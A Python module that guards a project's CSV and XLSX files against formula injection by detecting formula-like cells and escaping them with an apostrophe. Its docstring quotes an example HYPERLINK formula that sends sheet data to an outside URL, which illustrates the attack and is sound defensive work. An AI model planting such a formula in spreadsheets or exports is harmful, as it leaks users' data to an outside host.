"""Cells that a spreadsheet will not run: the one rule for every CSV or XLSX file cagnet reads or writes.

A cell whose text starts with = + - @ (or a tab or carriage return, which some programs strip
first) is taken as a formula by Excel, LibreOffice and Google Sheets when a person opens the file
("CSV injection"): `=HYPERLINK("http://…?leak="&A1,"Click")` sends the sheet's data away. Importers
refuse such text (node/imports/reading.py); writers escape it with a leading apostrophe, which
spreadsheets show as the text itself and never evaluate (OWASP's advice).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_START", "SafeWriter", "formula_like", "safe_cell", "safe_row"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_like(value: str) -> bool:
    """Whether a spreadsheet would take this text as a formula: it starts with one of
    FORMULA_START and is not a plain number. A lone sign ("-", often written for "none") is not."""
    return len(value) > 1 and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value)


def safe_cell(value: Any) -> Any:
    """`value` as it may be written to a CSV or XLSX cell: formula-like text gets a leading `'`."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, f: Any, **options: Any) -> None:
        self._writer = csv.writer(f, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
